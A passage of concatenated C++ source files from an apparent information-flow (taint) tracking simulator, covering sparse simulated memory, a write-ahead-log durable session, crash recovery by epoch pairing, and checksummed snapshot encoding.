        page->fill(0);
        it = pages.emplace(key, std::move(page)).first;
    }
    return *it->second;
}

const Memory::Page *
Memory::pageForConst(Addr addr) const
{
    auto it = pages.find(addr / page_bytes);
    return it == pages.end() ? nullptr : it->second.get();
}

uint64_t
Memory::read(Addr addr, unsigned size) const
{
    pift_assert(size == 1 || size == 2 || size == 4 || size == 8,
                "bad access size");
    uint64_t value = 0;
    for (unsigned i = 0; i < size; ++i) {
        Addr a = addr + i;
        const Page *page = pageForConst(a);
        uint8_t byte = page ? (*page)[a % page_bytes] : 0;
        value |= static_cast<uint64_t>(byte) << (8 * i);
    }
    return value;
}

void
Memory::write(Addr addr, uint64_t value, unsigned size)
{
    pift_assert(size == 1 || size == 2 || size == 4 || size == 8,
                "bad access size");
    for (unsigned i = 0; i < size; ++i) {
        Addr a = addr + i;
        pageFor(a)[a % page_bytes] =
            static_cast<uint8_t>(value >> (8 * i));
    }
}

void
Memory::writeBlock(Addr addr, const void *data, size_t len)
{
    const auto *bytes = static_cast<const uint8_t *>(data);
    for (size_t i = 0; i < len; ++i) {
        Addr a = addr + static_cast<Addr>(i);
        pageFor(a)[a % page_bytes] = bytes[i];
    }
}

void
Memory::readBlock(Addr addr, void *data, size_t len) const
{
    auto *bytes = static_cast<uint8_t *>(data);
    for (size_t i = 0; i < len; ++i) {
        Addr a = addr + static_cast<Addr>(i);
        const Page *page = pageForConst(a);
        bytes[i] = page ? (*page)[a % page_bytes] : 0;
    }
}

std::string
Memory::readString16(Addr addr, size_t chars) const
{
    std::string s;
    s.reserve(chars);
    for (size_t i = 0; i < chars; ++i)
        s.push_back(static_cast<char>(
            read16(addr + static_cast<Addr>(2 * i)) & 0xff));
    return s;
}

void
Memory::writeString16(Addr addr, const std::string &s)
{
    for (size_t i = 0; i < s.size(); ++i)
        write16(addr + static_cast<Addr>(2 * i),
                static_cast<uint8_t>(s[i]));
}

} // namespace pift::mem
