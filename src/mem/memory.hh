/**
 * @file
 * Sparse byte-addressable simulated memory.
 *
 * The simulated device has a flat 32-bit physical address space backed
 * lazily by 4 KiB pages, little-endian like ARM. Reads of untouched
 * memory return zero (pages are zero-filled on first touch), which
 * keeps traces deterministic.
 */

#ifndef PIFT_MEM_MEMORY_HH
#define PIFT_MEM_MEMORY_HH

#include <array>
#include <cstdint>
#include <memory>
#include <string>
#include <unordered_map>

#include "support/types.hh"

namespace pift::mem
{

/** Page size of the backing store (simulation detail, not ISA). */
inline constexpr Addr page_bytes = 4096;

/** Lazily allocated little-endian memory over the 32-bit space. */
class Memory
{
  public:
    /** Read @p size (1/2/4/8) bytes at @p addr, zero-extended. */
    uint64_t read(Addr addr, unsigned size) const;

    /** Write the low @p size (1/2/4/8) bytes of @p value at @p addr. */
    void write(Addr addr, uint64_t value, unsigned size);

    uint8_t read8(Addr addr) const { return read(addr, 1); }
    uint16_t read16(Addr addr) const { return read(addr, 2); }
    uint32_t read32(Addr addr) const { return read(addr, 4); }
    uint64_t read64(Addr addr) const { return read(addr, 8); }

    void write8(Addr addr, uint8_t v) { write(addr, v, 1); }
    void write16(Addr addr, uint16_t v) { write(addr, v, 2); }
    void write32(Addr addr, uint32_t v) { write(addr, v, 4); }
    void write64(Addr addr, uint64_t v) { write(addr, v, 8); }

    /** Copy a host buffer into simulated memory. */
    void writeBlock(Addr addr, const void *data, size_t len);

    /** Copy simulated memory out to a host buffer. */
    void readBlock(Addr addr, void *data, size_t len) const;

    /** Read a UTF-16-ish string of @p chars 2-byte units as ASCII. */
    std::string readString16(Addr addr, size_t chars) const;

    /** Write an ASCII string as 2-byte units (Java char layout). */
    void writeString16(Addr addr, const std::string &s);

    /** Number of pages currently materialized (footprint metric). */
    size_t pageCount() const { return pages.size(); }

  private:
    using Page = std::array<uint8_t, page_bytes>;

    Page &pageFor(Addr addr);
    const Page *pageForConst(Addr addr) const;

    std::unordered_map<Addr, std::unique_ptr<Page>> pages;
};

} // namespace pift::mem

#endif // PIFT_MEM_MEMORY_HH
