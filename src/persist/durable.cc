#include "persist/durable.hh"

#include <cerrno>
#include <cstring>
#include <sys/stat.h>

#include "persist/snapshot.hh"
#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::persist
{

namespace
{

/** Persist instruments, resolved once (see DESIGN.md §9). */
struct PersistTel
{
    telemetry::Counter &wal_records =
        telemetry::counter("persist.wal_records_total");
    telemetry::Counter &snapshots =
        telemetry::counter("persist.snapshots_total");
    telemetry::Counter &io_failures =
        telemetry::counter("persist.io_failures_total");
};

PersistTel &
tel()
{
    static PersistTel t;
    return t;
}

} // anonymous namespace

std::string
snapshotPath(const std::string &dir)
{
    return dir + "/snapshot.pift";
}

std::string
walPath(const std::string &dir)
{
    return dir + "/wal.pift";
}

Status
ensureDir(const std::string &dir)
{
    if (::mkdir(dir.c_str(), 0755) == 0 || errno == EEXIST)
        return Status();
    return Status::error("cannot create directory " + dir + ": " +
                         std::strerror(errno));
}

DurableSession::DurableSession(core::TaintStorage &storage_,
                               core::PiftTracker &tracker_,
                               const DurableOptions &options)
    : storage(storage_), tracker(tracker_), opts(options)
{}

DurableSession::~DurableSession()
{
    close();
}

Status
DurableSession::start(uint64_t initial_epoch)
{
    if (Status s = ensureDir(opts.dir); !s.ok()) {
        healthy_ = false;
        return s;
    }
    epoch_ = initial_epoch;
    records_since_snapshot = 0;
    if (Status s = wal.open(walPath(opts.dir), epoch_,
                            opts.flush_each);
        !s.ok()) {
        healthy_ = false;
        return s;
    }
    return Status();
}

void
DurableSession::append(const core::JournalRecord &rec)
{
    if (Status s = wal.append(rec); !s.ok()) {
        if (healthy_) {
            tel().io_failures.inc();
            pift_warn_limited(3,
                              "durable session lost its WAL; state "
                              "dir is now stale: %s",
                              s.message().c_str());
        }
        healthy_ = false;
        return;
    }
    ++records_logged;
    tel().wal_records.inc();
    ++records_since_snapshot;
    if (opts.snapshot_every &&
        records_since_snapshot >= opts.snapshot_every) {
        // Cadence snapshot; failure already flags the session.
        (void)snapshotNow();
    }
}

Status
DurableSession::snapshotNow()
{
    SnapshotData data;
    data.epoch = epoch_ + 1;
    data.storage = storage.exportState();
    data.tracker = tracker.exportState();

    if (Status s = writeSnapshotFile(snapshotPath(opts.dir), data);
        !s.ok()) {
        if (healthy_) {
            tel().io_failures.inc();
            pift_warn_limited(3, "snapshot write failed: %s",
                              s.message().c_str());
        }
        healthy_ = false;
        return s;
    }
    ++epoch_;
    ++snapshots_taken;
    tel().snapshots.inc();
    records_since_snapshot = 0;
    PIFT_PROV(recorder_,
              recordGlobal(provenance::ProvKind::SnapshotEpoch,
                           provenance::ProvCause::None,
                           static_cast<uint32_t>(epoch_)));

    // Rotate: the published snapshot covers everything the old WAL
    // held, so restart the log at the new epoch. A crash before this
    // completes leaves WAL epoch-1, which recovery treats as the
    // (stale) rotation-crash case.
    if (Status s = wal.open(walPath(opts.dir), epoch_,
                            opts.flush_each);
        !s.ok()) {
        if (healthy_) {
            tel().io_failures.inc();
            pift_warn_limited(3, "WAL rotation failed: %s",
                              s.message().c_str());
        }
        healthy_ = false;
        return s;
    }
    PIFT_PROV(recorder_,
              recordGlobal(provenance::ProvKind::WalEpoch,
                           provenance::ProvCause::None,
                           static_cast<uint32_t>(epoch_)));
    return Status();
}

Status
DurableSession::flush()
{
    return wal.flush();
}

Status
DurableSession::close()
{
    return wal.close();
}

} // namespace pift::persist
