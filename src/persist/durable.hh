/**
 * @file
 * DurableSession: the live end of crash recovery (DESIGN.md §11).
 *
 * A DurableSession owns one state directory holding at most two
 * artifacts — `snapshot.pift` and `wal.pift` — and implements the
 * tracker's MutationJournal interface: every journaled state
 * transition is framed into the WAL, and every `snapshot_every`
 * records the full state is snapshotted and the WAL rotated.
 *
 * The epoch invariant that makes every crash point recoverable:
 * `epoch()` counts snapshots taken; no snapshot file means the
 * implicit empty snapshot at epoch 0 and cursor (0,0). snapshotNow()
 * first atomically publishes the snapshot at epoch E+1, then reopens
 * the WAL at epoch E+1 — so a crash between the two steps leaves
 * snapshot E+1 beside a WAL marked E, which recovery recognizes as a
 * rotation crash (every record in that WAL was exported into the
 * snapshot already, so the whole log is stale). A WAL more than one epoch behind its
 * snapshot cannot occur through any crash and is treated as
 * corruption.
 *
 * I/O failures are sticky: the session keeps the live run going but
 * healthy() turns false, and the caller must treat the directory as
 * stale (recovery from it would silently miss the tail — exactly
 * what noteStateLoss() exists for).
 */

#ifndef PIFT_PERSIST_DURABLE_HH
#define PIFT_PERSIST_DURABLE_HH

#include <cstdint>
#include <string>

#include "core/journal.hh"
#include "core/pift_tracker.hh"
#include "core/taint_storage.hh"
#include "persist/wal.hh"
#include "support/expected.hh"

namespace pift::persist
{

/** Snapshot file location inside a state directory. */
std::string snapshotPath(const std::string &dir);

/** WAL file location inside a state directory. */
std::string walPath(const std::string &dir);

/** Create @p dir if missing (one level). */
Status ensureDir(const std::string &dir);

/** Tuning for a DurableSession. */
struct DurableOptions
{
    std::string dir;

    /**
     * Take a snapshot (and rotate the WAL) every this many journal
     * records; 0 disables the cadence (snapshots only on demand).
     */
    uint64_t snapshot_every = 0;

    /**
     * Flush the WAL after every record. Maximum durability (a crash
     * loses at most the torn final frame); benches turn it off to
     * measure framing cost separately from flush cost.
     */
    bool flush_each = true;
};

/** Journals mutations to a WAL and snapshots on cadence. */
class DurableSession : public core::MutationJournal
{
  public:
    /**
     * @param storage the hardware-model store being made durable
     * @param tracker the tracker driving it (journal source)
     */
    DurableSession(core::TaintStorage &storage,
                   core::PiftTracker &tracker,
                   const DurableOptions &options);
    ~DurableSession() override;

    /**
     * Create the state directory if needed and open the WAL at
     * @p initial_epoch (0 for a fresh run; recovery passes the epoch
     * it restored plus one after re-snapshotting). Does not write a
     * snapshot — for a fresh run the implicit empty epoch-0 snapshot
     * is already "on disk" by definition.
     */
    Status start(uint64_t initial_epoch = 0);

    /** MutationJournal: frame the record into the WAL. */
    void append(const core::JournalRecord &rec) override;

    /**
     * Export the current storage + tracker state, publish it
     * atomically as snapshot epoch()+1, then rotate the WAL to the
     * new epoch. On failure the previous snapshot/WAL pair remains
     * the recovery point and healthy() turns false.
     */
    Status snapshotNow();

    /** Flush the WAL (no-op with flush_each). */
    Status flush();

    /** Flush and close the WAL; the directory stays recoverable. */
    Status close();

    /** False after any unrecovered I/O failure (sticky). */
    bool healthy() const { return healthy_; }

    /** Snapshots taken (== epoch of the newest snapshot file). */
    uint64_t epoch() const { return epoch_; }

    /** Journal records appended across all WAL epochs. */
    uint64_t recordsLogged() const { return records_logged; }

    /** Snapshots successfully published. */
    uint64_t snapshotsTaken() const { return snapshots_taken; }

    const DurableOptions &options() const { return opts; }

    /**
     * Attach a provenance flight recorder (may be null). The session
     * emits a SnapshotEpoch + WalEpoch global record per successful
     * snapshot publication, so explanations can be correlated with the
     * durable epoch they would recover into. No-op when
     * PIFT_PROVENANCE=OFF.
     */
    void
    setRecorder(provenance::Recorder *rec)
    {
#if defined(PIFT_PROVENANCE_ENABLED)
        recorder_ = rec;
#else
        (void)rec;
#endif
    }

  private:
    core::TaintStorage &storage;
    core::PiftTracker &tracker;
    DurableOptions opts;
    WalWriter wal;
    uint64_t epoch_ = 0;
    uint64_t records_since_snapshot = 0;
    uint64_t records_logged = 0;
    uint64_t snapshots_taken = 0;
    bool healthy_ = true;
#if defined(PIFT_PROVENANCE_ENABLED)
    provenance::Recorder *recorder_ = nullptr;
#endif
};

} // namespace pift::persist

#endif // PIFT_PERSIST_DURABLE_HH
