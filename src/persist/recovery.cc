#include "persist/recovery.hh"

#include <map>
#include <set>
#include <sys/stat.h>

#include "persist/durable.hh"
#include "persist/wal.hh"
#include "persist/wire.hh"
#include "support/logging.hh"

namespace pift::persist
{

namespace
{

bool
fileExists(const std::string &path)
{
    struct ::stat st;
    return ::stat(path.c_str(), &st) == 0;
}

/**
 * Mutable working copy of tracker state during WAL replay; folded
 * back into canonical TrackerState form when done.
 */
struct TrackerReplay
{
    std::map<ProcId, core::TrackerState::WindowState> windows;
    std::set<ProcId> lossy;
    bool global_loss = false;
    std::vector<core::SinkResult> sinks;
    SeqNum records_seen = 0;
    uint64_t controls_seen = 0;

    explicit TrackerReplay(const core::TrackerState &t)
        : global_loss(t.global_loss), sinks(t.sinks),
          records_seen(t.records_seen), controls_seen(t.controls_seen)
    {
        for (const auto &w : t.windows)
            windows[w.pid] = w;
        lossy.insert(t.lossy.begin(), t.lossy.end());
    }

    core::TrackerState
    toState() const
    {
        core::TrackerState t;
        for (const auto &[pid, w] : windows)
            t.windows.push_back(w);
        t.lossy.assign(lossy.begin(), lossy.end());
        t.global_loss = global_loss;
        t.sinks = sinks;
        t.records_seen = records_seen;
        t.controls_seen = controls_seen;
        return t;
    }
};

/**
 * Re-apply one journaled transition. Queries are replayed as real
 * queries so the storage's LRU clock and entry recency advance
 * exactly as in the original run — that is what makes the recovered
 * state an *exact* prefix, not an approximation.
 */
void
applyRecord(const core::JournalRecord &rec,
            core::TaintStorage &storage, TrackerReplay &t)
{
    taint::AddrRange range(rec.start, rec.end);
    switch (rec.kind) {
      case core::JournalKind::TaintedLoad:
        storage.query(rec.pid, range);
        t.windows[rec.pid] = {rec.pid, true, rec.ltlt, rec.used};
        break;
      case core::JournalKind::StoreTaint:
        storage.insert(rec.pid, range);
        t.windows[rec.pid] = {rec.pid, true, rec.ltlt, rec.used};
        break;
      case core::JournalKind::StoreUntaint:
        // Window expiry is lazy and observation-driven; the replayed
        // event stream re-derives it, so only the store matters here.
        storage.remove(rec.pid, range);
        break;
      case core::JournalKind::SourceTaint:
        storage.insert(rec.pid, range);
        break;
      case core::JournalKind::SinkCheck: {
        core::SinkResult res;
        res.sink_id = rec.id;
        res.pid = rec.pid;
        res.range = range;
        res.tainted = rec.verdict == core::SinkVerdict::Tainted;
        res.verdict = rec.verdict;
        res.at_records = rec.records_seen;
        storage.query(rec.pid, range);
        t.sinks.push_back(res);
        break;
      }
      case core::JournalKind::ClearAll:
        storage.clear();
        t.windows.clear();
        t.lossy.clear();
        t.global_loss = false;
        break;
      case core::JournalKind::StreamLoss:
        t.lossy.insert(rec.pid);
        break;
      case core::JournalKind::StateLoss:
        t.global_loss = true;
        break;
    }
    t.records_seen = rec.records_seen;
    t.controls_seen = rec.controls_seen;
}

} // anonymous namespace

RecoveryResult
recover(const std::string &dir,
        const core::TaintStorageParams &fresh_params)
{
    RecoveryResult result;
    std::string detail;

    // 1. Establish the base state: newest snapshot, or the implicit
    //    empty snapshot at epoch 0 when none was ever written.
    SnapshotData base;
    base.storage.params = fresh_params;
    const std::string snap_path = snapshotPath(dir);
    result.snapshot_present = fileExists(snap_path);
    if (result.snapshot_present) {
        auto snap = readSnapshotFile(snap_path);
        if (snap.ok()) {
            result.snapshot_ok = true;
            base = snap.value();
            detail += "snapshot epoch " + std::to_string(base.epoch) +
                " ok";
        } else {
            // A snapshot existed but cannot be trusted: no exact
            // base. Report, degrade, and fall back to empty.
            result.corruption_detected = true;
            detail += snap.message();
        }
    } else {
        detail += "no snapshot (implicit epoch 0)";
    }

    // 2. Read the WAL tail (tolerantly).
    WalReadReport wal;
    const std::string wal_path = walPath(dir);
    result.wal_present = fileExists(wal_path);
    if (result.wal_present) {
        auto r = readWalFile(wal_path);
        if (r.ok()) {
            wal = r.value();
            result.wal_header_ok = wal.header_ok;
            result.wal_torn = wal.torn;
            result.wal_records = wal.records.size();
            detail += "; wal epoch " + std::to_string(wal.epoch) +
                ", " + std::to_string(wal.records.size()) + " records";
            if (wal.torn)
                detail += " (torn: " + wal.detail + ")";
        } else {
            result.wal_torn = true;
            detail += "; wal unreadable: " + r.message();
        }
    } else {
        detail += "; no wal";
    }

    if (result.corruption_detected) {
        // Corrupt snapshot: the WAL extends a base we do not have.
        result.state.storage.params = fresh_params;
        result.state.tracker.global_loss = true;
        result.detail = detail + "; degraded to empty state";
        return result;
    }

    // 3. Pair WAL with snapshot by epoch. The pairing is all-or-
    //    none: a WAL at the snapshot's epoch was opened *after* the
    //    snapshot was published, so every record in it post-dates the
    //    snapshot and must be applied; a WAL one epoch behind is the
    //    rotation-crash case — the snapshot was exported after every
    //    append to it, so every record is already absorbed and must
    //    be skipped. (A cursor comparison could not make this split:
    //    records emitted between events — StreamLoss, StateLoss —
    //    share their cursor with the preceding event.)
    std::vector<core::JournalRecord> tail;
    if (result.wal_header_ok) {
        if (wal.epoch == base.epoch) {
            tail = std::move(wal.records);
        } else if (base.epoch > 0 && wal.epoch == base.epoch - 1) {
            result.wal_stale = wal.records.size();
            detail += "; rotation crash (wal one epoch behind, "
                "absorbed by snapshot)";
        } else {
            detail += "; wal epoch mismatch, ignored";
        }
    }

    // 4. Replay the tail on the snapshot state through a real
    //    storage model.
    core::TaintStorage storage(base.storage.params);
    storage.restoreState(base.storage);
    TrackerReplay tracker(base.tracker);
    for (const auto &rec : tail) {
        applyRecord(rec, storage, tracker);
        ++result.wal_applied;
    }

    result.state.epoch = base.epoch;
    result.state.storage = storage.exportState();
    result.state.tracker = tracker.toState();
    result.detail = detail + "; applied " +
        std::to_string(result.wal_applied) + ", stale " +
        std::to_string(result.wal_stale);
    return result;
}

void
restoreInto(const RecoveryResult &result, core::TaintStorage &storage,
            core::PiftTracker &tracker)
{
    storage.restoreState(result.state.storage);
    tracker.restoreState(result.state.tracker);
    if (result.corruption_detected) {
        // No exact base existed: from here on a negative sink check
        // must answer MaybeTainted, never a silent Clean.
        tracker.noteStateLoss();
    }
}

std::string
formatRecovery(const RecoveryResult &result)
{
    std::string line = result.corruption_detected
        ? "recovery: CORRUPTION DETECTED (degraded)"
        : "recovery: exact prefix";
    line += " @ epoch " + std::to_string(result.state.epoch) +
        ", cursor (" +
        std::to_string(result.state.tracker.records_seen) + " records, " +
        std::to_string(result.state.tracker.controls_seen) +
        " controls)";
    line += " — " + result.detail;
    return line;
}

} // namespace pift::persist
