/**
 * @file
 * Crash recovery: last valid snapshot + WAL tail replay
 * (DESIGN.md §11).
 *
 * recover() inspects a state directory and reconstructs the most
 * recent provably-consistent taint state. The outcome dichotomy the
 * crash-point differential test enforces:
 *
 *  - snapshot intact (or absent == implicit empty epoch 0): the
 *    result is an *exact* prefix of the original run — the snapshot
 *    state advanced by every WAL record past its cursor. A torn or
 *    corrupt WAL tail only shortens the prefix (the resume cursor
 *    moves earlier); resuming the event stream from the cursor then
 *    reproduces the uncrashed run bit-for-bit.
 *
 *  - snapshot present but corrupt: no trusted base exists, so no
 *    exact state can be reconstructed. corruption_detected is set,
 *    recovery falls back to the empty state at cursor (0,0), and
 *    restoreInto() declares whole-state loss — every later negative
 *    sink check answers MaybeTainted. Detected and degraded, never
 *    silently Clean.
 *
 * WAL/snapshot pairing uses the epoch scheme described in
 * durable.hh: a WAL at the snapshot's epoch extends it (all records
 * applied); a WAL one epoch behind is a rotation crash and all its
 * records are already absorbed; anything else means the WAL does not belong
 * to this snapshot and it is ignored (the snapshot alone is still an
 * exact prefix).
 */

#ifndef PIFT_PERSIST_RECOVERY_HH
#define PIFT_PERSIST_RECOVERY_HH

#include <cstdint>
#include <string>

#include "core/pift_tracker.hh"
#include "core/taint_storage.hh"
#include "persist/snapshot.hh"

namespace pift::persist
{

/** What recover() reconstructed, and how it got there. */
struct RecoveryResult
{
    /**
     * The recovered state: snapshot plus applied WAL tail. Its
     * tracker cursor (records_seen, controls_seen) is the position
     * in the event stream to resume from. On corruption_detected
     * this is the empty state at cursor (0,0).
     */
    SnapshotData state;

    bool snapshot_present = false;
    bool snapshot_ok = false;     //!< decoded and checksummed
    bool wal_present = false;
    bool wal_header_ok = false;
    bool wal_torn = false;        //!< tail rejected (expected crash)
    uint64_t wal_records = 0;     //!< valid records in the WAL
    uint64_t wal_applied = 0;     //!< records the snapshot lacked
    uint64_t wal_stale = 0;       //!< records the snapshot absorbed

    /**
     * True when no exact state could be reconstructed (corrupt
     * snapshot). The restored tracker must degrade via
     * noteStateLoss(); restoreInto() does this.
     */
    bool corruption_detected = false;

    /** Human-readable account of what was accepted/rejected. */
    std::string detail;
};

/**
 * Reconstruct the latest consistent state from @p dir. Never fails:
 * the worst outcome is corruption_detected with the empty state.
 *
 * @param fresh_params storage configuration to assume when no
 *        snapshot exists (the implicit empty epoch-0 snapshot) or
 *        none can be trusted; must match the original run's params.
 */
RecoveryResult recover(const std::string &dir,
                       const core::TaintStorageParams &fresh_params);

/**
 * Load @p result into live objects: restores storage and tracker
 * state, and on corruption_detected declares whole-state loss so
 * sink checks degrade instead of silently answering Clean.
 * @p storage must have been constructed with the params recovery
 * ran under.
 */
void restoreInto(const RecoveryResult &result,
                 core::TaintStorage &storage,
                 core::PiftTracker &tracker);

/** One-line summary of a RecoveryResult (CLI / diagnostics). */
std::string formatRecovery(const RecoveryResult &result);

} // namespace pift::persist

#endif // PIFT_PERSIST_RECOVERY_HH
