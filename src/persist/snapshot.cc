#include "persist/snapshot.hh"

#include "persist/wire.hh"

namespace pift::persist
{

namespace
{

void
encodeStorage(ByteWriter &w, const core::TaintStorageState &s)
{
    w.put64(s.params.entries);
    w.put8(static_cast<uint8_t>(s.params.policy));
    w.put8(s.params.coalesce ? 1 : 0);
    w.put64(s.clock);
    w.put64(s.entries.size());
    for (const auto &e : s.entries) {
        w.put32(e.pid);
        w.put32(e.range.start);
        w.put32(e.range.end);
        w.put64(e.last_use);
    }
    w.put64(s.spills.size());
    for (const auto &[pid, ranges] : s.spills) {
        w.put32(pid);
        w.put64(ranges.size());
        for (const auto &r : ranges) {
            w.put32(r.start);
            w.put32(r.end);
        }
    }
    w.put64(s.saturated.size());
    for (ProcId pid : s.saturated)
        w.put32(pid);
}

void
encodeTracker(ByteWriter &w, const core::TrackerState &t)
{
    w.put8(t.global_loss ? 1 : 0);
    w.put64(t.windows.size());
    for (const auto &win : t.windows) {
        w.put32(win.pid);
        w.put8(win.active ? 1 : 0);
        w.put64(win.ltlt);
        w.put32(win.used);
    }
    w.put64(t.lossy.size());
    for (ProcId pid : t.lossy)
        w.put32(pid);
    w.put64(t.sinks.size());
    for (const auto &s : t.sinks) {
        w.put32(s.sink_id);
        w.put32(s.pid);
        w.put32(s.range.start);
        w.put32(s.range.end);
        w.put8(s.tainted ? 1 : 0);
        w.put8(static_cast<uint8_t>(s.verdict));
        w.put64(s.at_records);
    }
    w.put64(t.records_seen);
    w.put64(t.controls_seen);
}

/** Reject counts a valid file could not physically contain. */
bool
countSane(uint64_t count, size_t per_item, const ByteReader &r)
{
    return per_item != 0 && count <= r.bytesLeft() / per_item;
}

Status
decodeStorage(ByteReader &r, core::TaintStorageState &s)
{
    s.params.entries = r.get64();
    uint8_t policy = r.get8();
    if (policy > static_cast<uint8_t>(core::EvictPolicy::DropNew))
        return Status::error("snapshot: bad eviction policy");
    s.params.policy = static_cast<core::EvictPolicy>(policy);
    s.params.coalesce = r.get8() != 0;
    s.clock = r.get64();

    uint64_t nentries = r.get64();
    if (!countSane(nentries, 20, r))
        return Status::error("snapshot: entry count exceeds payload");
    s.entries.resize(nentries);
    for (auto &e : s.entries) {
        e.pid = r.get32();
        e.range.start = r.get32();
        e.range.end = r.get32();
        e.last_use = r.get64();
    }

    uint64_t nspills = r.get64();
    if (!countSane(nspills, 12, r))
        return Status::error("snapshot: spill count exceeds payload");
    s.spills.resize(nspills);
    for (auto &[pid, ranges] : s.spills) {
        pid = r.get32();
        uint64_t nranges = r.get64();
        if (!countSane(nranges, 8, r))
            return Status::error(
                "snapshot: spill range count exceeds payload");
        ranges.resize(nranges);
        for (auto &rg : ranges) {
            rg.start = r.get32();
            rg.end = r.get32();
        }
    }

    uint64_t nsat = r.get64();
    if (!countSane(nsat, 4, r))
        return Status::error(
            "snapshot: saturated count exceeds payload");
    s.saturated.resize(nsat);
    for (auto &pid : s.saturated)
        pid = r.get32();
    return Status();
}

Status
decodeTracker(ByteReader &r, core::TrackerState &t)
{
    t.global_loss = r.get8() != 0;

    uint64_t nwindows = r.get64();
    if (!countSane(nwindows, 17, r))
        return Status::error("snapshot: window count exceeds payload");
    t.windows.resize(nwindows);
    for (auto &win : t.windows) {
        win.pid = r.get32();
        win.active = r.get8() != 0;
        win.ltlt = r.get64();
        win.used = r.get32();
    }

    uint64_t nlossy = r.get64();
    if (!countSane(nlossy, 4, r))
        return Status::error("snapshot: lossy count exceeds payload");
    t.lossy.resize(nlossy);
    for (auto &pid : t.lossy)
        pid = r.get32();

    uint64_t nsinks = r.get64();
    if (!countSane(nsinks, 26, r))
        return Status::error("snapshot: sink count exceeds payload");
    t.sinks.resize(nsinks);
    for (auto &s : t.sinks) {
        s.sink_id = r.get32();
        s.pid = r.get32();
        s.range.start = r.get32();
        s.range.end = r.get32();
        s.tainted = r.get8() != 0;
        uint8_t verdict = r.get8();
        if (verdict >
            static_cast<uint8_t>(core::SinkVerdict::MaybeTainted))
            return Status::error("snapshot: bad sink verdict");
        s.verdict = static_cast<core::SinkVerdict>(verdict);
        s.at_records = r.get64();
    }

    t.records_seen = r.get64();
    t.controls_seen = r.get64();
    return Status();
}

} // anonymous namespace

std::string
encodeSnapshot(const SnapshotData &data)
{
    ByteWriter w;
    w.put32(snapshot_magic);
    w.put16(snapshot_version);
    w.put16(0); // reserved
    w.put64(data.epoch);
    encodeStorage(w, data.storage);
    encodeTracker(w, data.tracker);
    std::string bytes = w.takeBytes();
    uint32_t crc = crc32(bytes.data(), bytes.size());
    ByteWriter trailer;
    trailer.put32(crc);
    return bytes + trailer.bytes();
}

Expected<SnapshotData>
decodeSnapshot(const std::string &bytes)
{
    if (bytes.size() < 20)
        return Status::error("snapshot: file shorter than header");
    // CRC covers everything before the 4-byte trailer.
    const size_t body = bytes.size() - 4;
    ByteReader tail(bytes.data() + body, 4);
    if (tail.get32() != crc32(bytes.data(), body))
        return Status::error("snapshot: CRC mismatch");

    ByteReader r(bytes.data(), body);
    if (r.get32() != snapshot_magic)
        return Status::error("snapshot: bad magic");
    uint16_t version = r.get16();
    if (version != snapshot_version)
        return Status::error("snapshot: unsupported version " +
                             std::to_string(version));
    r.get16(); // reserved

    SnapshotData data;
    data.epoch = r.get64();
    if (Status s = decodeStorage(r, data.storage); !s.ok())
        return s;
    if (Status s = decodeTracker(r, data.tracker); !s.ok())
        return s;
    if (!r.ok())
        return Status::error("snapshot: truncated payload");
    if (r.bytesLeft() != 0)
        return Status::error("snapshot: trailing bytes after payload");
    return data;
}

Status
writeSnapshotFile(const std::string &path, const SnapshotData &data)
{
    return writeFileAtomic(path, encodeSnapshot(data));
}

Expected<SnapshotData>
readSnapshotFile(const std::string &path)
{
    std::string bytes;
    if (Status s = readFileBytes(path, bytes); !s.ok())
        return s;
    return decodeSnapshot(bytes);
}

} // namespace pift::persist
