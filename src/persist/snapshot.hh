/**
 * @file
 * Versioned, checksummed snapshots of the complete taint state
 * (DESIGN.md §11).
 *
 * A snapshot captures one consistent point of a tracking run: the
 * TaintStorage state (entries + LRU clock + spill + saturation), the
 * tracker state (window machines, loss flags, sink verdicts), and the
 * resume cursor identifying the event-stream prefix the state
 * corresponds to. Snapshots are written atomically (tmp + rename) so
 * a crash mid-write never leaves a torn snapshot in place, and carry
 * a whole-file CRC-32 trailer so media corruption is detected rather
 * than parsed. The decode path never trusts a length field: every
 * count is applied through the bounds-checked ByteReader, so a
 * corrupt-but-CRC-colliding file degrades to a decode error, not
 * undefined behaviour.
 */

#ifndef PIFT_PERSIST_SNAPSHOT_HH
#define PIFT_PERSIST_SNAPSHOT_HH

#include <cstdint>
#include <string>

#include "core/pift_tracker.hh"
#include "core/taint_storage.hh"
#include "support/expected.hh"

namespace pift::persist
{

/** Snapshot file magic: "PSNP" little-endian. */
inline constexpr uint32_t snapshot_magic = 0x504e5350u;

/** Current snapshot wire-format version. */
inline constexpr uint16_t snapshot_version = 1;

/** The complete durable state captured by one snapshot. */
struct SnapshotData
{
    /**
     * Snapshot epoch: the number of snapshots taken before this one,
     * plus one. A missing snapshot file is equivalent to an implicit
     * empty snapshot at epoch 0 with cursor (0,0). The WAL header
     * carries the epoch it extends; recovery pairs the two.
     */
    uint64_t epoch = 0;

    core::TaintStorageState storage;
    core::TrackerState tracker;
};

/** Serialize @p data to the snapshot wire format (with CRC trailer). */
std::string encodeSnapshot(const SnapshotData &data);

/**
 * Parse snapshot bytes. Fails (with a message naming the first
 * violation) on bad magic, unknown version, CRC mismatch, truncated
 * or over-long input, or any out-of-range field.
 */
Expected<SnapshotData> decodeSnapshot(const std::string &bytes);

/** Encode @p data and write it to @p path atomically. */
Status writeSnapshotFile(const std::string &path,
                         const SnapshotData &data);

/** Read and decode the snapshot at @p path. */
Expected<SnapshotData> readSnapshotFile(const std::string &path);

} // namespace pift::persist

#endif // PIFT_PERSIST_SNAPSHOT_HH
