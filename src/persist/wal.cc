#include "persist/wal.hh"

#include <cerrno>
#include <cstring>

#include "persist/wire.hh"

namespace pift::persist
{

std::string
encodeJournalRecord(const core::JournalRecord &rec)
{
    ByteWriter w;
    w.put8(static_cast<uint8_t>(rec.kind));
    w.put8(static_cast<uint8_t>(rec.verdict));
    w.put32(rec.pid);
    w.put32(rec.start);
    w.put32(rec.end);
    w.put32(rec.id);
    w.put64(rec.ltlt);
    w.put32(rec.used);
    w.put64(rec.records_seen);
    w.put64(rec.controls_seen);
    return w.takeBytes();
}

Expected<core::JournalRecord>
decodeJournalRecord(const std::string &payload)
{
    ByteReader r(payload);
    core::JournalRecord rec;
    uint8_t kind = r.get8();
    if (kind >= core::journal_kind_count)
        return Status::error("wal: bad record kind");
    rec.kind = static_cast<core::JournalKind>(kind);
    uint8_t verdict = r.get8();
    if (verdict > static_cast<uint8_t>(core::SinkVerdict::MaybeTainted))
        return Status::error("wal: bad record verdict");
    rec.verdict = static_cast<core::SinkVerdict>(verdict);
    rec.pid = r.get32();
    rec.start = r.get32();
